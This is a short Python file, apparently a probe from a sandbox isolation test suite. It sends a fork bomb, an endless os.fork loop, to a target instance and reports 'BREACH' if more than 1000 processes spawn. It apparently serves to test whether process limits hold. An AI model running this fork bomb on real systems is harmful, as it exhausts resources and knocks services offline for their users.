"""Forks without end on an instance.

kind: exhaust
answers: visit
says: processes
strong: holds
partial: not run: no instance answers there
none: not run: no instance answers there
"""

THERE = """
import os
most = 0
while True:
    try:
        if os.fork() == 0:
            most = 0
        else:
            most += 1
    except OSError as error:
        os.write(1, f"processes: {error}\\n".encode())
        if most > 1000:
            os.write(1, b"BREACH: no end of processes\\n")
        for _ in range(1 << 40):
            pass
"""


def attack():
    print(aim.there(THERE, seconds=2)[:1000])
